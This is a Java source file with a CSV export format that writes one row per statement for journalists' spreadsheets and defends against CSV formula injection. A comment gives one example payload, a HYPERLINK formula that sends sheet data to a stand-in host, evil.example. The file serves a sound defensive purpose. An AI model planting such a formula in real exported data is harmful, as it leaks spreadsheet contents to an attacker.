package org.credence.export.format;

import java.io.IOException;
import java.io.OutputStream;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.util.Iterator;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.credence.export.ExportFormat;
import org.credence.export.ExportOptions;
import org.credence.export.ExportRecord;
import org.springframework.stereotype.Component;

/**
 * CSV for journalists' spreadsheets: one row per statement, RFC 4180 (CRLF, quotes doubled),
 * UTF-8, with an optional byte-order mark so Excel reads the encoding right. Text cells that a
 * spreadsheet would run as a formula are neutralised (see {@link #text}).
 */
@Component
public class CsvStatementsFormat implements ExportFormat {

    static final String[] HEADER = {
        "statement_id",
        "document_id",
        "title",
        "document_sha256",
        "start",
        "end",
        "exact",
        "label",
        "presentation",
        "attribution_source",
        "attribution_cue",
        "rationale",
        "tags",
        "reviewer",
        "created_at",
        "review_state",
        "gold_label",
        "decided_by",
        "decided_at",
        "published",
        "source",
        "url",
        "admiralty",
        "claim_id",
        "unit_id",
        "gold_start",
        "gold_end"
    };

    @Override
    public String id() {
        return "csv";
    }

    @Override
    public String title() {
        return "CSV (one row per statement, for spreadsheets)";
    }

    @Override
    public String fileName() {
        return "statements.csv";
    }

    @Override
    public String mediaType() {
        return "text/csv";
    }

    @Override
    public void write(Iterator<ExportRecord> records, ExportOptions options, OutputStream out) throws IOException {
        Writer writer = new OutputStreamWriter(out, StandardCharsets.UTF_8);
        if (options.excelBom()) {
            writer.write('\uFEFF');
        }
        CSVPrinter csv = new CSVPrinter(
                writer, CSVFormat.RFC4180.builder().setHeader(HEADER).get());
        while (records.hasNext()) {
            ExportRecord r = records.next();
            csv.printRecord(
                    r.statementId(),
                    r.documentId(),
                    text(r.title()),
                    r.documentSha256(),
                    r.start(),
                    r.end(),
                    text(r.exact()),
                    r.label().code(),
                    r.presentation() == null ? "" : r.presentation().code(),
                    text(r.attributionSource()),
                    text(r.attributionCue()),
                    text(r.rationale()),
                    text(String.join(";", r.tagList())),
                    text(r.reviewer()),
                    r.createdAt(),
                    r.reviewState().code(),
                    r.goldLabel() == null ? "" : r.goldLabel().code(),
                    nullToEmpty(r.decidedBy()),
                    r.decidedAt() == null ? "" : r.decidedAt(),
                    r.published() == null ? "" : r.published(),
                    text(r.sourceName()),
                    text(r.url()),
                    nullToEmpty(r.admiralty()),
                    r.claimId() == null ? "" : r.claimId(),
                    r.unitId(),
                    r.goldStart() == null ? "" : r.goldStart(),
                    r.goldEnd() == null ? "" : r.goldEnd());
        }
        csv.flush();
    }

    /**
     * A cell of text someone typed or a document contains. One that starts with {@code = + - @}, a tab or a
     * carriage return would be run as a formula by Excel, LibreOffice or Google Sheets (a rationale
     * {@code =HYPERLINK("http://evil.example/?"&A1,"x")} sends the sheet's data away when clicked), so it
     * gets a leading apostrophe, which spreadsheets show as text (OWASP's advice for CSV injection). The
     * JSON formats keep every value exactly.
     */
    static String text(String value) {
        if (value == null || value.isEmpty()) {
            return "";
        }
        char first = value.charAt(0);
        boolean formula =
                first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
        return formula ? "'" + value : value;
    }

    private static String nullToEmpty(String value) {
        return value == null ? "" : value;
    }
}
